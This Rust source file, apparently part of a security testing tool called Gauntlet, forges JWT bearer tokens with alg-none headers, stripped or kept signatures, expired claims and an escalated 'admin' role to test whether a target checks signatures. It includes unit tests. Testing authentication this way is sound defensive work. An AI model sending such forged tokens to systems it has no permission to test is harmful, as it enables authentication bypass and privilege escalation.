// Token forge for Gauntlet
// Decodes, mutates, re-signs and strips bearer tokens (JWT layout: header.payload.signature)
//
// None of these functions need the real signing secret. When no secret is known the empty
// key is used on purpose: the question being asked is whether the target checks signatures
// at all, not whether its secret can be recovered.

use crate::error::TokenError;
use base64::{engine::general_purpose, Engine as _};
use chrono::{DateTime, Duration, Utc};
use hmac::{Hmac, Mac};
use serde_json::{json, Map, Value};
use sha2::Sha256;

type HmacSha256 = Hmac<Sha256>;

/// Number of trailing characters left visible by [`redact`].
pub const REDACT_VISIBLE: usize = 10;

const MASK: char = '*';

/// A token split into its JSON header, JSON payload and raw signature segment.
#[derive(Debug, Clone, PartialEq)]
pub struct DecodedToken {
    pub header: Map<String, Value>,
    pub payload: Map<String, Value>,
    pub signature: String,
}

/// The credential variants the forgery probe sends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TokenVariant {
    Expired,
    TamperedSignaturePreserved,
    NoAlgorithm,
    RoleEscalated,
    Malformed,
    Missing,
}

impl TokenVariant {
    pub const ALL: [TokenVariant; 6] = [
        TokenVariant::Expired,
        TokenVariant::TamperedSignaturePreserved,
        TokenVariant::NoAlgorithm,
        TokenVariant::RoleEscalated,
        TokenVariant::Malformed,
        TokenVariant::Missing,
    ];

    pub fn label(&self) -> &'static str {
        match self {
            TokenVariant::Expired => "expired-token",
            TokenVariant::TamperedSignaturePreserved => "tampered-payload",
            TokenVariant::NoAlgorithm => "alg-none",
            TokenVariant::RoleEscalated => "role-escalated",
            TokenVariant::Malformed => "malformed-token",
            TokenVariant::Missing => "missing-token",
        }
    }
}

/// Parameters shared by the forging functions.
#[derive(Debug, Clone)]
pub struct ForgeKit {
    /// Guessed signing secret; empty when nothing is known.
    pub secret: String,
    /// Fields merged into the payload for tampering variants.
    pub patch: Map<String, Value>,
    /// Role written by the escalation variant.
    pub escalated_role: String,
}

impl ForgeKit {
    pub fn new(secret: impl Into<String>, escalated_role: impl Into<String>) -> Self {
        let escalated_role = escalated_role.into();
        let mut patch = Map::new();
        patch.insert("role".to_string(), Value::String(escalated_role.clone()));
        Self {
            secret: secret.into(),
            patch,
            escalated_role,
        }
    }

    /// Produce the token string for a variant. `None` means the request goes out without
    /// an Authorization header.
    pub fn forge(&self, variant: TokenVariant, source: &str) -> Result<Option<String>, TokenError> {
        let forged = match variant {
            TokenVariant::Expired => Some(expired(source, &self.secret, Utc::now())?),
            TokenVariant::TamperedSignaturePreserved => Some(tampered(source, &self.patch)?),
            TokenVariant::NoAlgorithm => Some(no_algorithm(source, &self.patch)?),
            TokenVariant::RoleEscalated => {
                Some(role_escalated(source, &self.escalated_role, &self.secret)?)
            }
            TokenVariant::Malformed => Some(malformed()),
            TokenVariant::Missing => None,
        };
        Ok(forged)
    }
}

/// Decode without verifying. Fails when there are fewer than two segments.
pub fn decode(token: &str) -> Result<DecodedToken, TokenError> {
    let parts: Vec<&str> = token.split('.').collect();
    if parts.len() < 2 {
        return Err(TokenError::Format(parts.len()));
    }

    let header = decode_segment(parts[0])?;
    let payload = decode_segment(parts[1])?;
    let signature = parts.get(2).copied().unwrap_or_default().to_string();

    Ok(DecodedToken {
        header,
        payload,
        signature,
    })
}

fn decode_segment(segment: &str) -> Result<Map<String, Value>, TokenError> {
    // Some issuers pad their segments even though JWT forbids it
    let bytes = general_purpose::URL_SAFE_NO_PAD.decode(segment.trim_end_matches('='))?;
    match serde_json::from_slice::<Value>(&bytes) {
        Ok(Value::Object(map)) => Ok(map),
        Ok(other) => Err(TokenError::Json(format!("expected object, found {}", other))),
        Err(e) => Err(TokenError::Json(e.to_string())),
    }
}

fn encode_segment(map: &Map<String, Value>) -> String {
    let bytes = Value::Object(map.clone()).to_string();
    general_purpose::URL_SAFE_NO_PAD.encode(bytes.as_bytes())
}

/// HMAC-SHA256 over `signing_input`, base64url without padding.
pub fn sign(signing_input: &str, secret: &str) -> Result<String, TokenError> {
    let mut mac = HmacSha256::new_from_slice(secret.as_bytes())
        .map_err(|e| TokenError::Key(e.to_string()))?;
    mac.update(signing_input.as_bytes());
    Ok(general_purpose::URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes()))
}

/// Encode header and payload and sign with HS256.
pub fn encode(
    header: &Map<String, Value>,
    payload: &Map<String, Value>,
    secret: &str,
) -> Result<String, TokenError> {
    let mut header = header.clone();
    header.insert("alg".to_string(), json!("HS256"));
    header
        .entry("typ".to_string())
        .or_insert_with(|| json!("JWT"));

    let signing_input = format!("{}.{}", encode_segment(&header), encode_segment(payload));
    let signature = sign(&signing_input, secret)?;
    Ok(format!("{}.{}", signing_input, signature))
}

/// Same payload with `exp` one hour in the past, re-signed.
pub fn expired(token: &str, secret: &str, now: DateTime<Utc>) -> Result<String, TokenError> {
    let decoded = decode(token)?;
    let mut payload = decoded.payload;
    let past = now - Duration::hours(1);
    payload.insert("exp".to_string(), json!(past.timestamp()));
    if payload.contains_key("iat") {
        payload.insert("iat".to_string(), json!((past - Duration::hours(1)).timestamp()));
    }
    encode(&decoded.header, &payload, secret)
}

/// Merge `patch` into the payload and copy the original signature segment unchanged.
pub fn tampered(token: &str, patch: &Map<String, Value>) -> Result<String, TokenError> {
    let decoded = decode(token)?;
    let mut payload = decoded.payload;
    merge(&mut payload, patch);
    Ok(format!(
        "{}.{}.{}",
        encode_segment(&decoded.header),
        encode_segment(&payload),
        decoded.signature
    ))
}

/// Header declares `alg: none`, payload merged with `patch`, signature segment empty.
pub fn no_algorithm(token: &str, patch: &Map<String, Value>) -> Result<String, TokenError> {
    let decoded = decode(token)?;
    let mut payload = decoded.payload;
    merge(&mut payload, patch);

    let mut header = Map::new();
    header.insert("alg".to_string(), json!("none"));
    header.insert("typ".to_string(), json!("JWT"));
    Ok(format!("{}.{}.", encode_segment(&header), encode_segment(&payload)))
}

/// Overwrite the payload `role` claim and re-sign.
pub fn role_escalated(token: &str, role: &str, secret: &str) -> Result<String, TokenError> {
    let decoded = decode(token)?;
    let mut payload = decoded.payload;
    payload.insert("role".to_string(), json!(role));
    encode(&decoded.header, &payload, secret)
}

/// Syntactically broken bearer value.
pub fn malformed() -> String {
    "not-a-token.%%%.###".to_string()
}

/// User identifier claim, trying the common claim names in order.
pub fn subject_of(token: &str) -> Option<String> {
    let decoded = decode(token).ok()?;
    ["userId", "user_id", "sub", "id"]
        .iter()
        .filter_map(|claim| decoded.payload.get(*claim))
        .find_map(|value| match value {
            Value::String(s) if !s.is_empty() => Some(s.clone()),
            Value::Number(n) => Some(n.to_string()),
            _ => None,
        })
}

/// Mask everything but the trailing [`REDACT_VISIBLE`] characters; mask all of it when the
/// token is that short or shorter. Length-preserving and idempotent.
pub fn redact(token: &str) -> String {
    let len = token.chars().count();
    if len <= REDACT_VISIBLE {
        return std::iter::repeat(MASK).take(len).collect();
    }
    let hidden = len - REDACT_VISIBLE;
    token
        .chars()
        .enumerate()
        .map(|(i, c)| if i < hidden { MASK } else { c })
        .collect()
}

fn merge(target: &mut Map<String, Value>, patch: &Map<String, Value>) {
    for (k, v) in patch {
        target.insert(k.clone(), v.clone());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn source_token() -> String {
        let mut header = Map::new();
        header.insert("typ".to_string(), json!("JWT"));
        let mut payload = Map::new();
        payload.insert("sub".to_string(), json!("user_42"));
        payload.insert("role".to_string(), json!("candidate"));
        payload.insert("exp".to_string(), json!(4_102_444_800i64));
        encode(&header, &payload, "real-secret").unwrap()
    }

    // ============================================
    // Decoding
    // ============================================

    #[test]
    fn test_decode_rejects_single_segment() {
        assert!(matches!(decode("abc"), Err(TokenError::Format(1))));
        assert!(matches!(decode(""), Err(TokenError::Format(1))));
    }

    #[test]
    fn test_decode_accepts_two_segments() {
        let token = source_token();
        let two: Vec<&str> = token.split('.').take(2).collect();
        let decoded = decode(&two.join(".")).unwrap();
        assert_eq!(decoded.payload["sub"], json!("user_42"));
        assert_eq!(decoded.signature, "");
    }

    #[test]
    fn test_decode_invalid_base64() {
        assert!(matches!(decode("%%%.###"), Err(TokenError::Base64(_))));
    }

    #[test]
    fn test_decode_non_object_payload() {
        let header = general_purpose::URL_SAFE_NO_PAD.encode(b"{}");
        let payload = general_purpose::URL_SAFE_NO_PAD.encode(b"[1,2]");
        assert!(matches!(
            decode(&format!("{}.{}.x", header, payload)),
            Err(TokenError::Json(_))
        ));
    }

    // ============================================
    // Variants round-trip their mutation
    // ============================================

    #[test]
    fn test_expired_sets_past_exp_and_resigns() {
        let now = Utc::now();
        let forged = expired(&source_token(), "", now).unwrap();
        let decoded = decode(&forged).unwrap();
        assert_eq!(decoded.payload["exp"], json!((now - Duration::hours(1)).timestamp()));
        assert_eq!(decoded.payload["sub"], json!("user_42"));

        let parts: Vec<&str> = forged.split('.').collect();
        let expected_sig = sign(&format!("{}.{}", parts[0], parts[1]), "").unwrap();
        assert_eq!(parts[2], expected_sig);
    }

    #[test]
    fn test_tampered_preserves_signature() {
        let source = source_token();
        let original_sig = source.rsplit('.').next().unwrap().to_string();
        let mut patch = Map::new();
        patch.insert("role".to_string(), json!("admin"));

        let forged = tampered(&source, &patch).unwrap();
        let decoded = decode(&forged).unwrap();
        assert_eq!(decoded.signature, original_sig);
        assert_eq!(decoded.payload["role"], json!("admin"));
        assert_eq!(decoded.payload["sub"], json!("user_42"));
    }

    #[test]
    fn test_no_algorithm_header_and_empty_signature() {
        let mut patch = Map::new();
        patch.insert("role".to_string(), json!("admin"));
        let forged = no_algorithm(&source_token(), &patch).unwrap();

        assert!(forged.ends_with('.'));
        let decoded = decode(&forged).unwrap();
        assert_eq!(decoded.header["alg"], json!("none"));
        assert_eq!(decoded.signature, "");

        let mut expected = decode(&source_token()).unwrap().payload;
        expected.insert("role".to_string(), json!("admin"));
        assert_eq!(decoded.payload, expected);
    }

    #[test]
    fn test_role_escalated_overwrites_role() {
        let forged = role_escalated(&source_token(), "admin", "").unwrap();
        let decoded = decode(&forged).unwrap();
        assert_eq!(decoded.payload["role"], json!("admin"));
        assert_eq!(decoded.header["alg"], json!("HS256"));
    }

    #[test]
    fn test_malformed_does_not_decode() {
        assert!(decode(&malformed()).is_err());
    }

    #[test]
    fn test_forge_missing_yields_none() {
        let kit = ForgeKit::new("", "admin");
        assert_eq!(kit.forge(TokenVariant::Missing, &source_token()).unwrap(), None);
    }

    #[test]
    fn test_forge_never_returns_source() {
        let kit = ForgeKit::new("", "admin");
        let source = source_token();
        for variant in TokenVariant::ALL {
            if let Some(forged) = kit.forge(variant, &source).unwrap() {
                assert_ne!(forged, source, "{:?} must derive a new token", variant);
            }
        }
    }

    #[test]
    fn test_subject_of_claim_order() {
        assert_eq!(subject_of(&source_token()), Some("user_42".to_string()));
        let mut payload = Map::new();
        payload.insert("id".to_string(), json!(7));
        let token = encode(&Map::new(), &payload, "").unwrap();
        assert_eq!(subject_of(&token), Some("7".to_string()));
        assert_eq!(subject_of("garbage"), None);
    }

    // ============================================
    // Redaction
    // ============================================

    #[test]
    fn test_redact_keeps_last_ten() {
        let token = "abcdefghijklmnopqrstuvwxyz";
        let red = redact(token);
        assert_eq!(red.len(), token.len());
        assert!(red.ends_with("qrstuvwxyz"));
        assert!(red.starts_with("****************"));
    }

    #[test]
    fn test_redact_short_tokens_fully_masked() {
        assert_eq!(redact("0123456789"), "**********");
        assert_eq!(redact("abc"), "***");
        assert_eq!(redact(""), "");
    }

    #[test]
    fn test_redact_idempotent() {
        for t in ["", "short", "0123456789", "01234567890", &source_token()] {
            let once = redact(t);
            assert_eq!(redact(&once), once);
        }
    }

    #[test]
    fn test_redact_multibyte() {
        let token = "ééééééééééééé"; // 13 chars
        let red = redact(token);
        assert_eq!(red.chars().count(), 13);
        assert!(red.starts_with("***é"));
    }
}
